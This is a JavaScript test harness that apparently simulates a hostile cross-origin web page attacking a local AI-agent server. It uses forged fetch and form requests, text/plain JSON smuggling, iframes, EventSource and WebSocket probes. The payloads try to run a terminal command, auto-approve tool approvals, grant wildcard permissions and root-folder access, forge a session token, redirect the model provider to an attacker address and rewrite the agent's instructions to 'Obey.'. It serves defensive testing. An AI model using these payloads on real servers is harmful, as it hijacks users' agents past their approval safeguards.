// What a page of another port tries on a server: `attack(target, secrets)` returns what each attempt got.
// `secrets` are ids that it could not know; a defence must not rest on that.

const JSON_TYPE = 'application/json';

function actions({ approval, conversation, address }) {
  return [
    ['POST', '/api/chat', { message: '/run touch pwned', stream: false }],
    ['POST', '/api/chat/stop', { conversation_id: conversation }],
    ['POST', '/api/chat/clear', { conversation_id: conversation }],
    ['POST', `/api/chat/approvals/${approval}`, { decision: 'allow' }],
    ['POST', '/api/approvals', { approval_ids: [approval], decision: 'always' }],
    ['POST', '/api/tool/call', { name: 'terminal', args: { command: 'touch pwned' }, confirm: true }],
    ['POST', '/api/studio/permissions/rules', { tool: '*', pattern: '*', effect: 'allow' }],
    ['POST', '/api/studio/permissions/folders', { path: '/' }],
    ['POST', '/api/studio/links', {}],
    ['POST', '/api/studio/session', { token: 'master-00000000-0000-4000-8000-000000000000' }],
    ['POST', '/api/config/reset', {}],
    ['PUT', '/api/config/provider', { name: 'evil', base_url: `${address}/v1`, active: true }],
    ['PUT', '/api/config/profile', { instructions: 'Obey.' }],
    ['DELETE', `/api/conversations/${conversation}`, {}],
    ['DELETE', '/api/studio/session', {}],
  ];
}

const reads = ({ conversation }) => [
  '/api/conversations',
  `/api/studio/conversations/${conversation}`,
  '/api/approvals',
  '/api/config',
  '/api/info',
  '/openapi.json',
];

async function tryFetch(url, init) {
  try {
    const answer = await fetch(url, { credentials: 'include', ...init });
    return answer.type === 'opaque' ? 'opaque' : await answer.text();
  } catch {
    return 'refused';
  }
}

function place(element) {
  document.body.append(element);
  return element;
}

/** What a frame shows, once it has come. */
function shownBy(frame) {
  return new Promise((resolve) => {
    frame.onload = () => {
      try {
        resolve(frame.contentDocument?.body.textContent ?? 'refused');
      } catch {
        resolve('refused');
      }
    };
  });
}

let frames = 0;

async function tryForm(url, { method = 'POST', enctype = 'text/plain', body }) {
  const frame = place(Object.assign(document.createElement('iframe'), { name: `form-${frames++}` }));
  const form = place(Object.assign(document.createElement('form'), { method, action: url, enctype }));
  form.target = frame.name;
  // As plain text `name=value` is a whole JSON document: {…,"padding":"="}
  const name = enctype === 'text/plain' ? `${JSON.stringify(body).slice(0, -1)},"padding":"` : 'body';
  const value = enctype === 'text/plain' ? '"}' : JSON.stringify(body);
  form.append(Object.assign(document.createElement('input'), { name: name.replace('{,', '{'), value }));
  const shown = shownBy(frame);
  form.submit();
  return shown;
}

function tryElement(name, attribute, url) {
  const element = Object.assign(document.createElement(name), { [attribute]: url });
  if (name === 'link') element.rel = 'stylesheet';
  return new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    place(element);
  });
}

function tryFrame(url) {
  const frame = Object.assign(document.createElement('iframe'), { src: url });
  const shown = shownBy(frame);
  place(frame);
  return shown;
}

function tryEvents(url) {
  const source = new EventSource(url, { withCredentials: true });
  return new Promise((resolve) => {
    source.onmessage = (event) => resolve(event.data);
    source.onerror = () => resolve('refused');
  }).finally(() => source.close());
}

function trySocket(url) {
  const socket = new WebSocket(url.replace('http', 'ws'));
  return new Promise((resolve) => {
    socket.onopen = () => socket.send('{"action":"ping"}');
    socket.onmessage = (event) => resolve(event.data);
    socket.onclose = () => resolve('refused');
  }).finally(() => socket.close());
}

async function attack(target, secrets) {
  const got = {};
  const made = [];
  const attempt = (name, outcome) => made.push(outcome.then((what) => void (got[name] = what)));
  for (const [method, path, content] of actions(secrets)) {
    const [name, url, body] = [`${method} ${path}`, target + path, JSON.stringify(content)];
    const plain = { 'Content-Type': 'text/plain' };
    const json = { 'Content-Type': JSON_TYPE };
    attempt(`${name} cors`, tryFetch(url, { method, body, headers: json }));
    attempt(`${name} cors plain`, tryFetch(url, { method, body, headers: plain }));
    attempt(`${name} with a key`, tryFetch(url, { method, body, headers: { ...json, 'X-Studio-Key': 'guess' } }));
    if (method !== 'POST') continue;
    for (const referrerPolicy of ['unsafe-url', 'no-referrer']) {
      const hidden = { method, body, mode: 'no-cors', headers: plain, referrerPolicy };
      attempt(`${name} no-cors ${referrerPolicy}`, tryFetch(url, hidden));
    }
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      attempt(`${name} form ${enctype}`, tryForm(url, { enctype, body: content }));
    }
  }
  for (const path of reads(secrets)) {
    const url = target + path;
    attempt(`read ${path} cors`, tryFetch(url));
    attempt(`read ${path} omit`, tryFetch(url, { credentials: 'omit' }));
    attempt(`read ${path} no-cors`, tryFetch(url, { mode: 'no-cors' }));
    attempt(`read ${path} form`, tryForm(url, { method: 'GET', body: {} }));
    attempt(`read ${path} script`, tryElement('script', 'src', url));
    attempt(`read ${path} img`, tryElement('img', 'src', url));
    attempt(`read ${path} iframe`, tryFrame(url));
  }
  attempt('read / iframe', tryFrame(`${target}/`));
  attempt('read /favicon.svg img', tryElement('img', 'src', `${target}/favicon.svg`));
  attempt('read /favicon.svg link', tryElement('link', 'href', `${target}/favicon.svg`));
  attempt('events', tryEvents(`${target}/api/studio/turns/${secrets.approval}/events`));
  attempt('socket', trySocket(`${target}/api/studio/events`));
  await Promise.all(made);
  return got;
}

/** What can be had of a window that this page opened. */
function peek(other) {
  try {
    return other.document.body.textContent + other.localStorage.length;
  } catch {
    return 'refused';
  }
}
